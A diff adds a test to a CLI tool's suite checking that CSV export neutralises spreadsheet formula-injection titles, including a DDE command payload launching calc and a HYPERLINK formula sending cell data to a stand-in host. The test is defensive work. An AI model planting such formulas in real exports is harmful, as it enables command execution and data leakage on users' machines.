@@ -100,6 +100,56 @@ Start here: Answer sooner (O).
     expect(last).toMatch(/^,'=J @all,T,unknown,Contacts/);
   });
 
+  it("has no formula in CSV, however it is hidden, and plain numbers as they are", async () => {
+    const titles = [
+      "-2+3+cmd|' /C calc'!A0",
+      '+1+HYPERLINK(\\"http://x/?\\"&A1)',
+      "@SUM(1)",
+      "  =1",
+      "\u200B=1",
+      "'=1",
+      "＝1",
+      "＋1",
+      "－1",
+      "＠a",
+      "a;=1",
+      "tab\t=1",
+      "-5",
+      "+1.5",
+      "-5 EUR",
+      "1-2",
+      "fine",
+    ];
+    const lines = titles.map(
+      (title, index) => `touchpoint t${index} "${title}" via web { actual ad-hoc on 2026-11-01 }`,
+    );
+    write({ "csv/j.journey": `journey j "J" {\nstage s "S" {\n${lines.join("\n")}\n}\n}\n` });
+    const { out } = await journey("gaps", "csv", "--format", "csv");
+    const cells = out
+      .split("\r\n")
+      .slice(1, -1)
+      .map((line) => /^\d*,J,(?:"((?:[^"]|"")*)"|([^,]*)),ad-hoc/.exec(line));
+    expect(cells.map((cell) => cell?.[1] ?? cell?.[2])).toEqual([
+      "'-2+3+cmd|' /C calc'!A0",
+      '\'+1+HYPERLINK(""http://x/?""&A1)',
+      "'@SUM(1)",
+      "'  =1",
+      "' =1",
+      "''=1",
+      "'＝1",
+      "'＋1",
+      "'－1",
+      "'＠a",
+      "a;'=1",
+      "tab =1",
+      "-5",
+      "+1.5",
+      "'-5 EUR",
+      "1-2",
+      "fine",
+    ]);
+  });
+
   it("counts ages from the day that is said to be today", async () => {
     expect((await journey("gaps", "gaps/j.journey", "--as-of", "2026-11-13")).out).toContain("1 day old");
   });
